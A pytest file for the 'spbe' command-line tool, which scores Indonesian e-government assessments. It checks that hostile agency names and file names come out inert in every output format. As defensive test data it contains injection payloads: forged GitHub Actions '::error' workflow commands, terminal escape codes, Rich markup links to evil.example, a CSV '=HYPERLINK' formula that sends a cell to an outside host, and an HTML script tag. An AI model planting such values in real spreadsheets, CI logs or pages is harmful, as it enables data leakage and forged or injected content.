"""Hostile names through the real commands (issue 13's reproductions): inert in every output.

Each case is a file as someone could submit it in a pull request. Where a payload holds a
control character, input validation may refuse the file (exit 2): the guarantee checked then is
that nothing it prints acts and spbe never ends with an internal error. The renderers' own
guarantees for every payload and format are in tests/unit/test_render_hostile.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import EXAMPLES, on_a_terminal
from typer.testing import CliRunner

from spbe_cli.cli.main import app
from spbe_cli.render.escape import csv_uncell

runner = CliRunner()
BASE = yaml.safe_load((EXAMPLES / "kota-contoh-2022.yaml").read_text(encoding="utf-8"))
FORGED = "::error file=evil.yaml,line=1::forged"


def assessment(folder: Path, name: str, nama: str, **extra: object) -> Path:
    """The example city under another name, written as JSON so any text can be said exactly."""
    data = {**BASE, "instansi": {"nama": nama, "jenis": "kota", "provinsi": "Jambi"}, **extra}
    path = folder / f"{name}.json"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def spbe(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """`spbe` writing to a pipe, as in CI (`spbe score | cat`)."""
    env = {k: v for k, v in os.environ.items() if k not in {"COLUMNS", "NO_COLOR"}}
    command = [sys.executable, "-m", "spbe_cli", *map(str, args)]
    return subprocess.run(command, capture_output=True, text=True, env=env, check=False)


def assert_no_command_line(*outputs: str) -> None:
    for out in outputs:
        for line in out.splitlines():
            assert not line.lstrip().startswith(("::", "##")), repr(line)
            assert "\x1b" not in line and "\r" not in line, repr(line)


@pytest.mark.slow
def test_a_name_cannot_forge_a_workflow_command_in_a_pipe(tmp_path: Path) -> None:
    evil = assessment(tmp_path, "evil", f"Kota Evil\n{FORGED}")
    plain = assessment(tmp_path, "plain", FORGED)
    named = assessment(tmp_path, f"x\n{FORGED}", "Kota Contoh")  # a file name is text too
    for args in (
        ["score", evil],
        ["score", plain],
        ["score", evil, plain],
        ["score", named, "--fail-under", "4"],
        ["diff", evil, plain],
        ["rank", tmp_path],
        ["plan", plain, "--target", "3"],
        ["validate", tmp_path],
    ):
        result = spbe(*args)
        assert result.returncode in (0, 1, 2), (args, result.stderr)
        assert_no_command_line(result.stdout, result.stderr)
    github = spbe("validate", named, "--fail-under", "4", "--format", "github")
    assert github.returncode == 1
    line, summary = github.stdout.splitlines()  # spbe's one command, the name encoded in it
    assert line.startswith("::error file=") and "x%0A%3A%3Aerror file=evil.yaml%2C" in line
    assert summary.startswith("1 berkas")
    shown = spbe("score", plain).stdout
    assert f"Hasil penilaian: {FORGED}" in shown  # shown, after spbe's own words


def test_validate_text_shows_an_unknown_key_inert(tmp_path: Path) -> None:
    """The pre-commit hook's format printed unknown keys raw (issue 13)."""
    data = {**BASE, f"x\n{FORGED}": 1, FORGED: 2, "\x1b[2Jy": 3}
    path = tmp_path / "keys.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    result = spbe("validate", path)
    assert result.returncode == 1
    assert "SPBE105" in result.stdout
    assert_no_command_line(result.stdout, result.stderr)
    assert "x\\x0a::error" in result.stdout and "\\x1b[2Jy" in result.stdout


@pytest.mark.slow
@pytest.mark.parametrize(
    "name", ["Kota [/x]", "Kota [x]", "[link=http://evil.example]Klik[/link]", "[bold]Kota"]
)
def test_markup_in_a_name_is_shown_as_written(tmp_path: Path, name: str) -> None:
    """`Kota [/x]` made score, rank and diff exit 3 on a terminal (Rich read it as markup)."""
    one = assessment(tmp_path, "a", name)
    two = assessment(tmp_path, "b", "Kota Lain", tahun=2023)
    for args in (["score", one, two], ["rank", one], ["diff", one, two], ["score", one]):
        code, out = on_a_terminal(args, 120)
        if name not in re.sub(r"\x1b\[[0-9;]*m", "", out):
            # once more: a loaded machine can lose a pty's tail
            code, out = on_a_terminal(args, 120)
        assert code == 0, (args, out[-300:])
        assert "\x1b]8;" not in out  # no live link
        assert name in re.sub(r"\x1b\[[0-9;]*m", "", out), args


@pytest.mark.slow
def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil?x="&B2,"Klik")'
    one = assessment(tmp_path, "=1+2", formula)
    two = assessment(tmp_path, "b", "@SUM(1+1)")
    for args in (["score", one], ["score", one, two], ["rank", tmp_path], ["diff", one, two]):
        out = spbe(*args, "--format", "csv").stdout
        cells = [c for row in csv.reader(io.StringIO(out, newline="")) for c in row]
        assert not [c for c in cells if c.startswith(("=", "@"))], args
        if args[0] != "diff":  # diff's rows are the rubric's, not the agency's
            assert f"'{formula}" in cells and formula not in cells, args
            assert {csv_uncell(c) for c in cells} >= {formula}


def test_markdown_cannot_forge_or_hide_a_line(tmp_path: Path) -> None:
    name = "Kota | Indeks SPBE: 4.80 · Predikat: Memuaskan <!-- *x* [y](z) #"
    path = assessment(tmp_path, "md", name)
    out = spbe("score", path, "--format", "markdown").stdout
    assert "<!--" not in out.replace("\\<!--", "")
    heading = out.splitlines()[0]
    assert heading.startswith("## Hasil penilaian: Kota \\| Indeks SPBE")
    assert "\\*x\\* \\[y\\](z) \\#" in heading
    assert out.count("Memuaskan") == 1  # the forged predicate stays inside the name


def test_the_html_report_escapes_a_name(tmp_path: Path) -> None:
    name = "<script>alert(1)</script><!-- [link=x]y[/link] =1+2"
    path = assessment(tmp_path, "html", name)
    target = tmp_path / "laporan.html"
    result = runner.invoke(app, ["report", str(path), "-o", str(target)])
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
